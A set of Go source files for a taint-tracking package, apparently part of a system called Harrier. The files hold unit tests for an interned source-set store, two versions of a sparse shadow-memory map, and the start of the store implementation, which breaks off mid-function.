		t.Errorf("String(Empty) = %q", got)
	}
	if st.Has(Empty, File) {
		t.Error("Has(Empty, File) = true")
	}
}

func TestOfInterning(t *testing.T) {
	st := NewStore()
	s := Source{File, "/etc/passwd"}
	a := st.Of(s)
	b := st.Of(s)
	if a != b {
		t.Errorf("Of interning failed: %d != %d", a, b)
	}
	if a == Empty {
		t.Error("Of returned Empty for a non-empty source")
	}
	got := st.Sources(a)
	if len(got) != 1 || got[0] != s {
		t.Errorf("Sources = %v, want [%v]", got, s)
	}
}

func TestOfAllCanonicalization(t *testing.T) {
	st := NewStore()
	a := Source{File, "a"}
	b := Source{Socket, "b"}
	t1 := st.OfAll(a, b)
	t2 := st.OfAll(b, a)
	t3 := st.OfAll(b, a, b, a) // duplicates
	if t1 != t2 || t2 != t3 {
		t.Errorf("order/duplicate independence failed: %d %d %d", t1, t2, t3)
	}
	if st.Len(t1) != 2 {
		t.Errorf("Len = %d, want 2", st.Len(t1))
	}
}

func TestOfAllEmpty(t *testing.T) {
	st := NewStore()
	if got := st.OfAll(); got != Empty {
		t.Errorf("OfAll() = %d, want Empty", got)
	}
}

func TestUnionBasics(t *testing.T) {
	st := NewStore()
	a := st.Of(Source{File, "f"})
	b := st.Of(Source{Socket, "s"})
	u := st.Union(a, b)
	if u == a || u == b || u == Empty {
		t.Fatalf("Union produced a degenerate tag: %d", u)
	}
	if !st.Has(u, File) || !st.Has(u, Socket) {
		t.Errorf("union missing members: %s", st.String(u))
	}
	// Identity laws.
	if st.Union(a, Empty) != a || st.Union(Empty, a) != a {
		t.Error("Union with Empty is not identity")
	}
	if st.Union(a, a) != a {
		t.Error("Union is not idempotent")
	}
	// Commutativity through the cache.
	if st.Union(b, a) != u {
		t.Error("Union is not commutative")
	}
}

func TestUnionAbsorption(t *testing.T) {
	st := NewStore()
	a := st.Of(Source{File, "f"})
	b := st.Of(Source{Socket, "s"})
	u := st.Union(a, b)
	if st.Union(u, a) != u {
		t.Error("a∪b ∪ a != a∪b")
	}
	if st.Union(u, u) != u {
		t.Error("u ∪ u != u")
	}
}

func TestUnionAll(t *testing.T) {
	st := NewStore()
	tags := []Tag{
		st.Of(Source{File, "a"}),
		st.Of(Source{File, "b"}),
		st.Of(Source{Binary, "c"}),
		Empty,
	}
	u := st.UnionAll(tags...)
	if st.Len(u) != 3 {
		t.Errorf("UnionAll len = %d, want 3", st.Len(u))
	}
	if st.UnionAll() != Empty {
		t.Error("UnionAll() != Empty")
	}
}

func TestOfTypeAndContains(t *testing.T) {
	st := NewStore()
	f1 := Source{File, "one"}
	f2 := Source{File, "two"}
	b := Source{Binary, "img"}
	u := st.OfAll(f1, f2, b)
	files := st.OfType(u, File)
	if len(files) != 2 {
		t.Fatalf("OfType(File) = %v", files)
	}
	if !st.Contains(u, b) {
		t.Error("Contains(b) = false")
	}
	if st.Contains(u, Source{Socket, "x"}) {
		t.Error("Contains(socket) = true")
	}
}

func TestStoreStringFormat(t *testing.T) {
	st := NewStore()
	u := st.OfAll(Source{File, "f"}, Source{Binary, "b"})
	want := `{FILE:"f", BINARY:"b"}`
	if got := st.String(u); got != want {
		t.Errorf("String = %q, want %q", got, want)
	}
}

func TestInvalidTagIsSafe(t *testing.T) {
	st := NewStore()
	bogus := Tag(9999)
	if st.Sources(bogus) != nil {
		t.Error("Sources(bogus) != nil")
	}
	if st.Has(bogus, File) {
		t.Error("Has(bogus) = true")
	}
	if st.OfType(bogus, File) != nil {
		t.Error("OfType(bogus) != nil")
	}
}

func TestUnionStats(t *testing.T) {
	st := NewStore()
	a := st.Of(Source{File, "f"})
	b := st.Of(Source{Socket, "s"})
	st.Union(a, b)
	st.Union(a, b) // cache hit
	sets, unions, hits := st.Stats()
	if sets < 3 {
		t.Errorf("sets = %d, want >= 3", sets)
	}
	if unions != 2 || hits != 1 {
		t.Errorf("unions = %d hits = %d, want 2/1", unions, hits)
	}
}

// Property: the union of two sets contains exactly the members of both.
func TestUnionProperty(t *testing.T) {
	st := NewStore()
	names := []string{"a", "b", "c", "d", "e"}
	types := []SourceType{UserInput, File, Socket, Binary, Hardware}
	mkTag := func(bits uint8) Tag {
		var srcs []Source
		for i := 0; i < 5; i++ {
			if bits&(1<<i) != 0 {
				srcs = append(srcs, Source{types[i], names[i]})
			}
		}
		return st.OfAll(srcs...)
	}
	f := func(x, y uint8) bool {
		x &= 0x1f
		y &= 0x1f
		u := st.Union(mkTag(x), mkTag(y))
		return u == mkTag(x|y)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

// Property: union is associative for randomly constructed sets.
func TestUnionAssociativity(t *testing.T) {
	st := NewStore()
	rng := rand.New(rand.NewSource(42))
	randTag := func() Tag {
		n := rng.Intn(4)
		var srcs []Source
		for i := 0; i < n; i++ {
			srcs = append(srcs, Source{
				Type: SourceType(1 + rng.Intn(5)),
				Name: string(rune('a' + rng.Intn(6))),
			})
		}
		return st.OfAll(srcs...)
	}
	for i := 0; i < 500; i++ {
		a, b, c := randTag(), randTag(), randTag()
		if st.Union(st.Union(a, b), c) != st.Union(a, st.Union(b, c)) {
			t.Fatalf("associativity failed: %s %s %s",
				st.String(a), st.String(b), st.String(c))
		}
	}
}

// Property: Sources always returns a sorted, duplicate-free slice.
func TestCanonicalInvariant(t *testing.T) {
	st := NewStore()
	rng := rand.New(rand.NewSource(7))
	for i := 0; i < 300; i++ {
		n := rng.Intn(6)
		var srcs []Source
		for j := 0; j < n; j++ {
			srcs = append(srcs, Source{
				Type: SourceType(1 + rng.Intn(5)),
				Name: string(rune('a' + rng.Intn(4))),
			})
		}
		tag := st.OfAll(srcs...)
		set := st.Sources(tag)
		if !sort.SliceIsSorted(set, func(a, b int) bool { return set[a].Less(set[b]) }) {
			t.Fatalf("set not sorted: %v", set)
		}
		for k := 1; k < len(set); k++ {
			if set[k] == set[k-1] {
				t.Fatalf("duplicate in set: %v", set)
			}
		}
	}
}

func TestWidthBudgetDegrades(t *testing.T) {
	st := NewStore()
	st.SetWidthBudget(4)
	// Union eight distinct files with one socket: 9 sources > budget 4.
	tag := Empty
	for i := 0; i < 8; i++ {
		tag = st.Union(tag, st.Of(Source{Type: File, Name: fmt.Sprintf("/tmp/f%d", i)}))
	}
	tag = st.Union(tag, st.Of(Source{Type: Socket, Name: "10.0.0.1:80"}))
	set := st.Sources(tag)
	if len(set) != 2 {
		t.Fatalf("degraded set = %v, want one wide source per type", set)
	}
	want := []Source{{Type: File, Name: WideName}, {Type: Socket, Name: WideName}}
	for i, s := range want {
		if set[i] != s {
			t.Errorf("set[%d] = %v, want %v", i, set[i], s)
		}
	}
	if !st.IsWide(tag) {
		t.Error("IsWide = false for degraded tag")
	}
	// Soundness: type-level membership survives degradation, so
	// type-keyed warnings cannot be lost.
	if !st.Has(tag, File) || !st.Has(tag, Socket) {
		t.Error("type membership lost under degradation")
	}
	if st.WideUnions() == 0 {
		t.Error("WideUnions counter not incremented")
	}
}

func TestWidthBudgetConverges(t *testing.T) {
	st := NewStore()
	st.SetWidthBudget(2)
	// Keep unioning fresh sources into an already-wide tag: the tag
	// must converge to a fixed point, not grow.
	tag := Empty
	var prev Tag
	for i := 0; i < 50; i++ {
		tag = st.Union(tag, st.Of(Source{Type: File, Name: fmt.Sprintf("f%d", i)}))
		tag = st.Union(tag, st.Of(Source{Type: Socket, Name: fmt.Sprintf("s%d", i)}))
		if i > 2 && tag != prev {
			// After the first degradation, unioning more of the same
			// types is absorbed: wide ∪ {fresh file} = wide.
			if i > 3 {
				t.Fatalf("wide tag did not converge: %s", st.String(tag))
			}
		}
		prev = tag
	}
	if got := st.Len(tag); got > 2 {
		t.Errorf("converged width = %d, want <= 2", got)
	}
	// The store's set table stays bounded relative to an unbudgeted
	// run, which would intern ~100 distinct growing sets.
	sets, _, _ := st.Stats()
	if sets > 120 {
		t.Errorf("interned %d sets; budget failed to bound growth", sets)
	}
}

func TestWidthBudgetDisabled(t *testing.T) {
	st := NewStore()
	tag := Empty
	for i := 0; i < 10; i++ {
		tag = st.Union(tag, st.Of(Source{Type: File, Name: fmt.Sprintf("f%d", i)}))
	}
	if st.Len(tag) != 10 || st.IsWide(tag) || st.WideUnions() != 0 {
		t.Error("unbudgeted store degraded a set")
	}
}
