package taint

// Shadow is a sparse tag map mirroring a guest address space. Pages
// are allocated on first tainted write; reading an unallocated page
// yields Empty. This matches Harrier's design where the data
// structures tracking taint grow with the footprint of tainted data
// (paper §7.3.1, §9).
//
// Representation (the §9 fast path): a page starts in *word mode*,
// one Tag per aligned 32-bit word, so the dominant accesses — aligned
// GetWord/SetWord from 32-bit loads and stores — are a single page
// lookup plus one array index. Word mode maintains the invariant that
// all four bytes of a word carry the word's tag. The first write that
// would break that invariant (a MOVB with a differing tag, an
// unaligned store) degrades the page to *byte mode*, which keeps a
// full per-byte tag array and stays byte-granular for the page's
// lifetime. Reads never degrade a page. The two representations are
// observationally identical; see DESIGN.md "Shadow memory fast
// paths".
//
// A single-entry page cache (a software TLB) short-circuits the page
// map for the overwhelmingly local access streams the benchmarks
// show; it is invalidated whenever the page table is replaced
// (Reset) and never shared with Clones.
type Shadow struct {
	store *Store
	pages map[uint32]*shadowPage

	// Software TLB: the last page resolution, including negative
	// results — an untainted working set resolves every access to
	// "unallocated", and caching that verdict keeps the hot path off
	// the page map entirely. pageAlloc refreshes the entry when it
	// materializes a negatively-cached page.
	tlbIdx   uint32
	tlbPage  *shadowPage
	tlbValid bool

	// TLB effectiveness counters (hits = probes - misses). Plain
	// increments on the page-resolution path; read via TLBStats.
	tlbProbes uint64
	tlbMisses uint64

	// Taint-state accounting for the clean-taint gate (see
	// harrier/trace.go). gen increments on every write that actually
	// changes a stored tag — no-op writes (storing the tag already
	// present) leave it untouched, so an unchanged gen across a window
	// proves the shadow's observable state is identical. pop counts
	// tainted (non-Empty) bytes; it is zero exactly while nothing in
	// the address space carries a source, and page degradation
	// preserves it (a word-mode tag counts as its four bytes).
	gen uint64
	pop int64

	// Page-flip seam for the clean tier (see harrier/cleantier.go):
	// flipGen advances every time any page's tainted-byte population
	// crosses zero→nonzero — the only event that can turn a
	// previously-clean footprint dirty — generalizing the negative-TLB
	// invalidation. A cached "these pages are clean" verdict keyed on
	// an unchanged flipGen needs no per-page re-probe. onFlip, when
	// installed, fires synchronously on the same transition with the
	// flipping page's index, before the write's caller regains control.
	flipGen uint64
	onFlip  func(idx uint32)
}

const (
	pageShift = 12
	pageSize  = 1 << pageShift
	pageMask  = pageSize - 1
	pageWords = pageSize / 4
)

// shadowPage holds the tags of one 4 KiB page. words is authoritative
// while bytes == nil (word mode); after degrade() the bytes array is
// authoritative and words is dead.
type shadowPage struct {
	words [pageWords]Tag
	bytes *[pageSize]Tag

	// idx is the page's own index in the owning shadow's page table;
	// pop counts the page's tainted bytes (the per-page slice of
	// Shadow.pop). Together they let writes detect the zero→nonzero
	// flip locally and report which page flipped.
	idx uint32
	pop int32
}

// degrade switches the page to byte mode, expanding each word tag to
// its four bytes. Idempotent.
func (p *shadowPage) degrade() {
	if p.bytes != nil {
		return
	}
	b := new([pageSize]Tag)
	for w, t := range p.words {
		if t == Empty {
			continue
		}
		o := w << 2
		b[o], b[o+1], b[o+2], b[o+3] = t, t, t, t
	}
	p.bytes = b
}

// getByte returns the tag of the byte at page offset off.
func (p *shadowPage) getByte(off uint32) Tag {
	if p.bytes != nil {
		return p.bytes[off]
	}
	return p.words[off>>2]
}

// setByte assigns the tag of the byte at page offset off, degrading
// the page only if the write actually breaks word uniformity. Actual
// tag changes are charged to sh's generation/population counters.
func (p *shadowPage) setByte(sh *Shadow, off uint32, t Tag) {
	if p.bytes == nil {
		if p.words[off>>2] == t {
			return // word already carries t; no-op, page stays in word mode
		}
		p.degrade()
	}
	old := p.bytes[off]
	if old == t {
		return
	}
	sh.gen++
	if old == Empty {
		sh.pop++
		p.pop++
		if p.pop == 1 {
			sh.pageFlipped(p)
		}
	} else if t == Empty {
		sh.pop--
		p.pop--
	}
	p.bytes[off] = t
}

// setWordSlot assigns the uniform tag of word slot w on a word-mode
// page, with generation/population accounting (one word = 4 bytes).
func (p *shadowPage) setWordSlot(sh *Shadow, w uint32, t Tag) {
	old := p.words[w]
	if old == t {
		return
	}
	sh.gen++
	if old == Empty {
		sh.pop += 4
		p.pop += 4
		if p.pop == 4 {
			sh.pageFlipped(p)
		}
	} else if t == Empty {
		sh.pop -= 4
		p.pop -= 4
	}
	p.words[w] = t
}

// pageFlipped records that p's tainted-byte population just crossed
// zero→nonzero: the flip generation advances and the installed
// listener (if any) hears which page went dirty.
func (sh *Shadow) pageFlipped(p *shadowPage) {
	sh.flipGen++
	if sh.onFlip != nil {
		sh.onFlip(p.idx)
	}
}

// NewShadow returns an empty shadow map backed by the given store.
func NewShadow(store *Store) *Shadow {
	return &Shadow{store: store, pages: make(map[uint32]*shadowPage)}
}

// Store returns the tag store this shadow resolves tags against.
func (sh *Shadow) Store() *Store { return sh.store }

// page resolves a page index through the TLB, returning nil when the
// page is unallocated.
func (sh *Shadow) page(idx uint32) *shadowPage {
	sh.tlbProbes++
	if sh.tlbValid && sh.tlbIdx == idx {
		return sh.tlbPage
	}
	sh.tlbMisses++
	p := sh.pages[idx]
	sh.tlbIdx, sh.tlbPage, sh.tlbValid = idx, p, true
	return p
}

// TLBStats reports page-cache effectiveness: total page resolutions
// and how many fell through to the page map (hits = probes - misses).
func (sh *Shadow) TLBStats() (probes, misses uint64) {
	return sh.tlbProbes, sh.tlbMisses
}

// pageAlloc resolves a page index, allocating the page on demand.
func (sh *Shadow) pageAlloc(idx uint32) *shadowPage {
	if p := sh.page(idx); p != nil {
		return p
	}
	p := &shadowPage{idx: idx}
	sh.pages[idx] = p
	sh.tlbIdx, sh.tlbPage, sh.tlbValid = idx, p, true
	return p
}

// Get returns the tag of the byte at addr.
func (sh *Shadow) Get(addr uint32) Tag {
	p := sh.page(addr >> pageShift)
	if p == nil {
		return Empty
	}
	return p.getByte(addr & pageMask)
}

// Set assigns the tag of the byte at addr. Setting Empty on an
// unallocated page is a no-op (no page is created).
func (sh *Shadow) Set(addr uint32, t Tag) {
	p := sh.page(addr >> pageShift)
	if p == nil {
		if t == Empty {
			return
		}
		p = sh.pageAlloc(addr >> pageShift)
	}
	p.setByte(sh, addr&pageMask, t)
}

// GetWord returns the union of the four byte tags at addr (the tag of
// a 32-bit load). The aligned word-mode case — the hot path — is one
// page lookup and one array index.
func (sh *Shadow) GetWord(addr uint32) Tag {
	off := addr & pageMask
	if off > pageSize-4 {
		return sh.GetRange(addr, 4) // crosses a page boundary
	}
	p := sh.page(addr >> pageShift)
	if p == nil {
		return Empty
	}
	if p.bytes == nil {
		if off&3 == 0 {
			return p.words[off>>2]
		}
		// Unaligned, word mode: the four bytes span two uniform words.
		return sh.store.Union(p.words[off>>2], p.words[(off+3)>>2])
	}
	b := p.bytes
	return sh.store.Union4(b[off], b[off+1], b[off+2], b[off+3])
}

// SetWord assigns t to the four bytes at addr (the tag of a 32-bit
// store). The aligned word-mode case is one page lookup and one array
// store; aligned stores never degrade a page.
func (sh *Shadow) SetWord(addr uint32, t Tag) {
	off := addr & pageMask
	if off > pageSize-4 {
		sh.SetRange(addr, 4, t) // crosses a page boundary
		return
	}
	p := sh.page(addr >> pageShift)
	if p == nil {
		if t == Empty {
			return
		}
		p = sh.pageAlloc(addr >> pageShift)
	}
	if p.bytes == nil && off&3 == 0 {
		p.setWordSlot(sh, off>>2, t)
		return
	}
	p.setByte(sh, off, t)
	p.setByte(sh, off+1, t)
	p.setByte(sh, off+2, t)
	p.setByte(sh, off+3, t)
}

// SetRange assigns the same tag to n bytes starting at addr,
// operating page-at-a-time: an Empty tag skips unallocated pages
// entirely, and word-mode pages take the interior as word fills.
func (sh *Shadow) SetRange(addr, n uint32, t Tag) {
	for n > 0 {
		idx := addr >> pageShift
		off := addr & pageMask
		chunk := pageSize - off
		if chunk > n {
			chunk = n
		}
		p := sh.page(idx)
		if p == nil {
			if t != Empty {
				p = sh.pageAlloc(idx)
				p.setRange(sh, off, chunk, t)
			}
		} else {
			p.setRange(sh, off, chunk, t)
		}
		addr += chunk
		n -= chunk
	}
}

// setRange assigns t to chunk bytes at page offset off (off+chunk <=
// pageSize). Word-mode pages fill whole words for the aligned
// interior and fall back to setByte (degrade-if-needed) at the edges.
func (p *shadowPage) setRange(sh *Shadow, off, chunk uint32, t Tag) {
	end := off + chunk
	if p.bytes == nil {
		for off < end && off&3 != 0 {
			p.setByte(sh, off, t)
			if p.bytes != nil {
				break // degraded mid-edge; finish in byte mode below
			}
			off++
		}
		if p.bytes == nil {
			for off+4 <= end {
				p.setWordSlot(sh, off>>2, t)
				off += 4
			}
			for off < end {
				p.setByte(sh, off, t)
				if p.bytes != nil {
					break
				}
				off++
			}
		}
	}
	if p.bytes != nil {
		for ; off < end; off++ {
			p.setByte(sh, off, t)
		}
	}
}

// GetRange returns the union of the tags of n bytes starting at addr,
// operating page-at-a-time: unallocated pages contribute nothing, and
// word-mode pages union one tag per touched word.
func (sh *Shadow) GetRange(addr, n uint32) Tag {
	out := Empty
	for n > 0 {
		idx := addr >> pageShift
		off := addr & pageMask
		chunk := pageSize - off
		if chunk > n {
			chunk = n
		}
		if p := sh.page(idx); p != nil {
			if p.bytes == nil {
				for w, last := off>>2, (off+chunk-1)>>2; w <= last; w++ {
					out = sh.store.Union(out, p.words[w])
				}
			} else {
				for i := uint32(0); i < chunk; i++ {
					out = sh.store.Union(out, p.bytes[off+i])
				}
			}
		}
		addr += chunk
		n -= chunk
	}
	return out
}

// Copy copies n byte tags from src to dst, preserving per-byte
// precision (used when guest memory is copied wholesale, e.g. fork).
// Overlapping ranges behave like memmove.
func (sh *Shadow) Copy(dst, src, n uint32) {
	if dst == src || n == 0 {
		return
	}
	if dst < src {
		for i := uint32(0); i < n; i++ {
			sh.Set(dst+i, sh.Get(src+i))
		}
		return
	}
	for i := n; i > 0; i-- {
		sh.Set(dst+i-1, sh.Get(src+i-1))
	}
}

// Clone returns a deep copy of the shadow map sharing the same store.
// Used by fork(): the child inherits the parent's taint state. The
// clone starts with a cold page cache.
func (sh *Shadow) Clone() *Shadow {
	out := NewShadow(sh.store)
	for idx, p := range sh.pages {
		cp := &shadowPage{words: p.words, idx: p.idx, pop: p.pop}
		if p.bytes != nil {
			b := *p.bytes
			cp.bytes = &b
		}
		out.pages[idx] = cp
	}
	out.gen = sh.gen
	out.pop = sh.pop
	out.flipGen = sh.flipGen
	return out
}

// ClearRange resets n bytes starting at addr to Empty. Unallocated
// pages are skipped without being probed per byte.
func (sh *Shadow) ClearRange(addr, n uint32) {
	sh.SetRange(addr, n, Empty)
}

// Reset drops all pages, returning the shadow to the untainted state.
// Used by execve(), which replaces the address space.
func (sh *Shadow) Reset() {
	sh.pages = make(map[uint32]*shadowPage)
	sh.tlbPage, sh.tlbValid = nil, false
	sh.gen++ // the observable tag state changed wholesale
	sh.pop = 0
	// Belt and braces: dropping every page can only make pages cleaner,
	// but bumping the flip generation forces cached clean verdicts to
	// re-probe rather than reason about the wholesale replacement.
	sh.flipGen++
}

// Gen returns the shadow's write generation: it advances exactly when
// a write changes a stored tag, so two equal Gen readings bracket a
// window in which the shadow's observable state did not change. The
// clean-taint gate keys its cached verdicts on it.
func (sh *Shadow) Gen() uint64 { return sh.gen }

// TagBytes returns the live tag population: the number of bytes
// currently carrying a non-Empty tag.
func (sh *Shadow) TagBytes() int64 { return sh.pop }

// Taintless reports whether no byte in the address space carries a
// source — trivially true before the first tagged write.
func (sh *Shadow) Taintless() bool { return sh.pop == 0 }

// Pages returns the number of shadow pages currently allocated.
func (sh *Shadow) Pages() int { return len(sh.pages) }

// FlipGen returns the page-flip generation: it advances exactly when
// some page's tainted population crosses zero→nonzero (and on Reset).
// Two equal FlipGen readings bracket a window in which no clean page
// became dirty, so a clean-footprint verdict taken at the first
// reading still holds at the second. Compare with Gen, which also
// moves on writes confined to already-dirty pages.
func (sh *Shadow) FlipGen() uint64 { return sh.flipGen }

// PageClean reports whether the 4 KiB page with index idx (addr >>
// 12) holds no tainted byte. It deliberately bypasses the one-entry
// TLB: clean-tier probes would otherwise thrash the cached entry the
// guest's own loads and stores are using, and charge their misses to
// the TLB effectiveness counters.
func (sh *Shadow) PageClean(idx uint32) bool {
	p := sh.pages[idx]
	return p == nil || p.pop == 0
}

// OnPageFlip installs fn as the page-flip listener: it fires
// synchronously whenever a page's tainted population crosses
// zero→nonzero, with the flipping page's index, before control
// returns to the writer. One listener; nil uninstalls. The clean tier
// uses it to flush demoted blocks before the next block boundary.
func (sh *Shadow) OnPageFlip(fn func(idx uint32)) { sh.onFlip = fn }

// bytePages returns how many allocated pages have degraded to byte
// mode (exposed for tests and stats).
func (sh *Shadow) bytePages() int {
	n := 0
	for _, p := range sh.pages {
		if p.bytes != nil {
			n++
		}
	}
	return n
}
