package taint

// Shadow is a sparse per-byte tag map mirroring a guest address space.
// Pages are allocated on first tainted write; reading an unallocated
// page yields Empty. This matches Harrier's design where the data
// structures tracking taint grow with the footprint of tainted data
// (paper §7.3.1, §9).
type Shadow struct {
	store *Store
	pages map[uint32]*shadowPage
}

const (
	pageShift = 12
	pageSize  = 1 << pageShift
	pageMask  = pageSize - 1
)

type shadowPage struct {
	tags [pageSize]Tag
}

// NewShadow returns an empty shadow map backed by the given store.
func NewShadow(store *Store) *Shadow {
	return &Shadow{store: store, pages: make(map[uint32]*shadowPage)}
}

// Store returns the tag store this shadow resolves tags against.
func (sh *Shadow) Store() *Store { return sh.store }

// Get returns the tag of the byte at addr.
func (sh *Shadow) Get(addr uint32) Tag {
	p, ok := sh.pages[addr>>pageShift]
	if !ok {
		return Empty
	}
	return p.tags[addr&pageMask]
}

// Set assigns the tag of the byte at addr. Setting Empty on an
// unallocated page is a no-op (no page is created).
func (sh *Shadow) Set(addr uint32, t Tag) {
	idx := addr >> pageShift
	p, ok := sh.pages[idx]
	if !ok {
		if t == Empty {
			return
		}
		p = &shadowPage{}
		sh.pages[idx] = p
	}
	p.tags[addr&pageMask] = t
}

// SetRange assigns the same tag to n bytes starting at addr.
func (sh *Shadow) SetRange(addr, n uint32, t Tag) {
	for i := uint32(0); i < n; i++ {
		sh.Set(addr+i, t)
	}
}

// GetRange returns the union of the tags of n bytes starting at addr.
func (sh *Shadow) GetRange(addr, n uint32) Tag {
	out := Empty
	for i := uint32(0); i < n; i++ {
		out = sh.store.Union(out, sh.Get(addr+i))
	}
	return out
}

// GetWord returns the union of the four byte tags at addr (the tag of
// a 32-bit load).
func (sh *Shadow) GetWord(addr uint32) Tag {
	return sh.GetRange(addr, 4)
}

// SetWord assigns t to the four bytes at addr (the tag of a 32-bit
// store).
func (sh *Shadow) SetWord(addr uint32, t Tag) {
	sh.SetRange(addr, 4, t)
}

// Copy copies n byte tags from src to dst, preserving per-byte
// precision (used when guest memory is copied wholesale, e.g. fork).
func (sh *Shadow) Copy(dst, src, n uint32) {
	if dst == src || n == 0 {
		return
	}
	if dst < src {
		for i := uint32(0); i < n; i++ {
			sh.Set(dst+i, sh.Get(src+i))
		}
		return
	}
	for i := n; i > 0; i-- {
		sh.Set(dst+i-1, sh.Get(src+i-1))
	}
}

// Clone returns a deep copy of the shadow map sharing the same store.
// Used by fork(): the child inherits the parent's taint state.
func (sh *Shadow) Clone() *Shadow {
	out := NewShadow(sh.store)
	for idx, p := range sh.pages {
		cp := &shadowPage{}
		cp.tags = p.tags
		out.pages[idx] = cp
	}
	return out
}

// ClearRange resets n bytes starting at addr to Empty.
func (sh *Shadow) ClearRange(addr, n uint32) {
	sh.SetRange(addr, n, Empty)
}

// Reset drops all pages, returning the shadow to the untainted state.
// Used by execve(), which replaces the address space.
func (sh *Shadow) Reset() {
	sh.pages = make(map[uint32]*shadowPage)
}

// Pages returns the number of shadow pages currently allocated.
func (sh *Shadow) Pages() int { return len(sh.pages) }
