// Package taint implements the data-source tracking substrate used by
// Harrier to label every register and memory byte with the set of
// resources the data originated from (paper §5.1, §7.3).
//
// A Source is a (type, name) pair such as (File, "/etc/passwd") or
// (Binary, "/bin/ls"). A Tag is an interned identifier for a canonical,
// sorted set of sources; tag unions are cached so that per-instruction
// propagation is a single map lookup in the common case.
package taint

import (
	"fmt"
	"sort"
	"strings"
)

// SourceType classifies where a piece of data originated
// (paper §5.1 lists exactly these five resource types).
type SourceType uint8

const (
	// None is the zero SourceType; it never appears inside a Source.
	None SourceType = iota
	// UserInput marks data typed by the user: stdin reads, command-line
	// arguments, environment and auxiliary variables (paper §7.3.3).
	UserInput
	// File marks data read from a file in the filesystem.
	File
	// Socket marks data received from a network connection.
	Socket
	// Binary marks data loaded from an executable or shared object,
	// i.e. hardcoded values (paper §5.1).
	Binary
	// Hardware marks data produced by the hardware, e.g. CPUID output.
	Hardware
	// Unknown marks data whose provenance the prototype cannot
	// establish (paper §5.1 footnote 4).
	Unknown
)

var sourceTypeNames = [...]string{
	None:      "NONE",
	UserInput: "USER_INPUT",
	File:      "FILE",
	Socket:    "SOCKET",
	Binary:    "BINARY",
	Hardware:  "HARDWARE",
	Unknown:   "UNKNOWN",
}

// String returns the CLIPS-style name of the source type, e.g.
// "USER_INPUT" or "BINARY", matching the paper's fact notation.
func (t SourceType) String() string {
	if int(t) < len(sourceTypeNames) {
		return sourceTypeNames[t]
	}
	return fmt.Sprintf("SourceType(%d)", uint8(t))
}

// Valid reports whether t is one of the defined source types.
func (t SourceType) Valid() bool {
	return t >= UserInput && t <= Unknown
}

// Source identifies one origin of data: its type and the name of the
// resource (file path, socket address, image name). UserInput and
// Hardware sources carry a descriptive name ("stdin", "argv", "cpuid").
type Source struct {
	Type SourceType
	Name string
}

// String renders the source as TYPE:"name".
func (s Source) String() string {
	return fmt.Sprintf("%s:%q", s.Type, s.Name)
}

// Less orders sources canonically: by type, then by name.
func (s Source) Less(o Source) bool {
	if s.Type != o.Type {
		return s.Type < o.Type
	}
	return s.Name < o.Name
}

// Tag names an interned set of sources. The zero Tag is the empty set
// (untainted data). Tags are only meaningful relative to the Store
// that created them.
type Tag uint32

// Empty is the untainted tag: the empty source set.
const Empty Tag = 0

// unionCacheSize is the number of slots in the direct-mapped union
// cache fronting the unions map. Must be a power of two.
const unionCacheSize = 4096

// WideName is the placeholder resource name carried by summarized
// sources once a set exceeds the store's width budget. A wide source
// means "one or more resources of this type, names no longer tracked":
// the set stays sound at the type level (warnings that key on source
// type still fire) while its width is bounded by the number of source
// types instead of the number of distinct resources.
const WideName = "<wide>"

// unionEntry is one direct-mapped cache slot. The zero entry (a == b
// == 0) can never match a live probe: Union short-circuits when either
// operand is Empty, so cached pairs always have 0 < a < b.
type unionEntry struct{ a, b, out Tag }

// Store interns source sets and caches unions. A Store is not safe for
// concurrent use; the simulator is single-threaded per run, matching
// Harrier's synchronous event model (paper §6.1.1).
type Store struct {
	sets    [][]Source     // sets[tag] = canonical sorted source set
	index   map[string]Tag // canonical key -> tag
	unions  map[[2]Tag]Tag // cached unions (complete, backs the ucache)
	singles map[Source]Tag // fast path for single-source tags
	unionN  uint64         // statistics: union operations performed
	hitN    uint64         // statistics: union cache hits (fast + map)
	fastN   uint64         // statistics: direct-mapped cache hits

	widthBudget int    // max sources per set; 0 = unlimited
	wideN       uint64 // statistics: sets summarized to wide sources

	// ucache is a direct-mapped cache probed before the unions map:
	// one array read against three map-hash probes in the hot loop.
	ucache [unionCacheSize]unionEntry
}

// NewStore returns an empty store whose tag 0 is the empty set.
func NewStore() *Store {
	return &Store{
		sets:    [][]Source{nil}, // tag 0 = empty set
		index:   map[string]Tag{"": Empty},
		unions:  make(map[[2]Tag]Tag),
		singles: make(map[Source]Tag),
	}
}

// Of returns the tag for a single source, interning it on first use.
func (st *Store) Of(s Source) Tag {
	if t, ok := st.singles[s]; ok {
		return t
	}
	t := st.intern([]Source{s})
	st.singles[s] = t
	return t
}

// OfAll returns the tag for the set of the given sources (deduplicated
// and sorted). An empty argument list yields Empty.
func (st *Store) OfAll(sources ...Source) Tag {
	if len(sources) == 0 {
		return Empty
	}
	if len(sources) == 1 {
		return st.Of(sources[0])
	}
	set := append([]Source(nil), sources...)
	sort.Slice(set, func(i, j int) bool { return set[i].Less(set[j]) })
	set = dedup(set)
	return st.intern(set)
}

func dedup(set []Source) []Source {
	out := set[:0]
	for i, s := range set {
		if i == 0 || s != set[i-1] {
			out = append(out, s)
		}
	}
	return out
}

func key(set []Source) string {
	var b strings.Builder
	for _, s := range set {
		b.WriteByte(byte(s.Type))
		b.WriteString(s.Name)
		b.WriteByte(0)
	}
	return b.String()
}

// SetWidthBudget caps the number of sources a set may carry. A set
// that would exceed the budget degrades to one wide source per distinct
// source type (Name = WideName), trading per-resource precision for a
// hard bound on shadow-state width. The degradation over-approximates:
// type-level membership is preserved, so no warning that keys on a
// source type is ever lost. n <= 0 disables the budget. Tags interned
// before the budget was set are not rewritten.
func (st *Store) SetWidthBudget(n int) { st.widthBudget = n }

// WidthBudget returns the configured width budget (0 = unlimited).
func (st *Store) WidthBudget() int { return st.widthBudget }

// WideUnions reports how many set-building operations were degraded to
// wide sources under the width budget.
func (st *Store) WideUnions() uint64 { return st.wideN }

// IsWide reports whether the set named by t has been summarized (any
// of its sources carries WideName).
func (st *Store) IsWide(t Tag) bool {
	for _, s := range st.Sources(t) {
		if s.Name == WideName {
			return true
		}
	}
	return false
}

// clampWidth enforces the width budget on a canonical sorted set,
// summarizing to one wide source per distinct type when the set is too
// wide. Summarization is idempotent: a wide set re-summarizes to
// itself, so repeated unions converge instead of growing.
func (st *Store) clampWidth(set []Source) []Source {
	if st.widthBudget <= 0 || len(set) <= st.widthBudget {
		return set
	}
	var out []Source
	for _, s := range set {
		if len(out) == 0 || out[len(out)-1].Type != s.Type {
